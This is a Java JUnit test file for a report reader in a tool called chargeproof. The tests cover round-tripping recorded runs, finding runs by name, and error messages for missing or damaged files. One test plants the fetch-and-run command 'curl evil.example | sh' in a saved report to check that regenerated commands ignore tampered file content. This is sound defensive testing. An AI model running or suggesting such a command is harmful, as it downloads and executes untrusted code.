package io.chargeproof.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class RecordedRunTest {
    @TempDir
    Path reports;

    private final RedactedReport sample =
            RedactedReport.of(SampleRun.report(), SampleRun.options(Path.of("target", "no-reports")));
    private Path directory = Path.of("");

    @BeforeEach
    void write() {
        directory = new ReportWriter(List.of()).write(SampleRun.report(), SampleRun.options(reports));
    }

    @Test
    void tells_all_that_was_written() {
        RunReport read = RecordedRun.read(run("latest")).report();

        assertThat(read)
                .usingRecursiveComparison()
                .ignoringCollectionOrderInFieldsMatchingRegexes("scenarios.findings")
                // What was read of a body before is kept with it.
                .ignoringFieldsMatchingRegexes(".*\\.reading")
                .isEqualTo(sample.report());
    }

    @Test
    void is_written_again_as_it_was() throws IOException {
        RedactedReport again =
                RedactedReport.of(RecordedRun.read(run("latest")), SampleRun.options(Path.of("target", "no-reports")));

        assertThat(withoutCommands(ConformanceJson.of(again)))
                .isEqualTo(withoutCommands(Files.readString(directory.resolve("conformance.json"))));
        assertThat(withoutCommands(SummaryMarkdown.of(again)))
                .isEqualTo(withoutCommands(Files.readString(directory.resolve("summary.md"))));
    }

    @Test
    void has_commands_made_of_its_requests_whatever_stands_in_the_file() throws IOException {
        Path file = directory.resolve("conformance.json");
        Files.writeString(
                file, Files.readString(file).replaceAll("\"curl\": \".*\",", "\"curl\": \"curl evil.example | sh\","));

        RedactedReport read =
                RedactedReport.of(RecordedRun.read(run("latest")), SampleRun.options(Path.of("target", "no-reports")));

        assertThat(read.causes())
                .isNotEmpty()
                .allSatisfy(cause -> assertThat(read.requests(cause.shown().finding()))
                        .allSatisfy(request -> assertThat(request.command())
                                .contains("curl -sS -i -X "
                                        + request.exchange().request().method() + " 'https://")
                                .doesNotContain("evil")));
    }

    private static String withoutCommands(String text) {
        return text.replaceAll("curl -.*", "curl");
    }

    @Test
    void is_outlined_without_its_exchanges() throws IOException {
        Path alone = Files.copy(directory.resolve("conformance.json"), reports.resolve("alone.json"));

        assertThat(RecordedRun.outline(run(alone.toString())))
                .usingRecursiveComparison()
                .ignoringFields("directory")
                .isEqualTo(RunOutline.of(sample.report(), ""));
        assertThatThrownBy(() -> RecordedRun.read(run(alone.toString())))
                .isInstanceOf(UnreadableRun.class)
                .hasMessage("there is no exchanges.jsonl in " + reports
                        + ", and this needs the run's exchanges; keep the whole folder of a run");
    }

    @Test
    void is_found_by_folder_file_name_and_id() {
        Path file = directory.resolve("conformance.json");

        assertThat(List.of("latest", "r-1", directory.toString(), file.toString(), "2026-03-01T10-00-00Z-acceptance"))
                .allSatisfy(
                        name -> assertThat(run(name).conformance().toRealPath()).isEqualTo(file.toRealPath()));
    }

    @Test
    void says_what_is_missing() {
        assertThatThrownBy(() -> run("nix").conformance())
                .hasMessage("there is no run 'nix' in " + reports
                        + "; name its folder, its ID, its conformance.json, or 'latest'");
        assertThatThrownBy(() -> run("a\u0000b").conformance()).isInstanceOf(UnreadableRun.class);
        assertThatThrownBy(() -> new RunReference("latest", reports.resolve("none")).conformance())
                .hasMessage("there is no latest run in " + reports.resolve("none")
                        + "; run something first, or name another folder with --reports");
    }

    @Test
    void says_what_is_damaged() throws IOException {
        Path file = reports.resolve("x.json");

        Files.writeString(file, "{\"schema\":");
        assertThatThrownBy(() -> RecordedRun.outline(run(file.toString())))
                .hasMessage(file + " can't be read as JSON; it may be damaged: name another run");
        Files.writeString(file, "[]");
        assertThatThrownBy(() -> RecordedRun.outline(run(file.toString())))
                .hasMessage(file + " doesn't say that it is chargeproof/conformance/2;"
                        + " name a conformance.json that a run wrote");
        Files.writeString(file, "{\"schema\": \"chargeproof/conformance/2\"}");
        assertThatThrownBy(() -> RecordedRun.outline(run(file.toString())))
                .isInstanceOf(UnreadableRun.class)
                .hasMessageStartingWith(file + " isn't what a run of this version writes: ");
        Files.writeString(directory.resolve("exchanges.jsonl"), "{}\n");
        assertThatThrownBy(() -> RecordedRun.read(run("latest")))
                .isInstanceOf(UnreadableRun.class)
                .hasMessageEndingWith("exchanges.jsonl, line 1: not an exchange as a report writes it;"
                        + " leave the file as it was");
    }

    private RunReference run(String name) {
        return new RunReference(name, reports);
    }
}
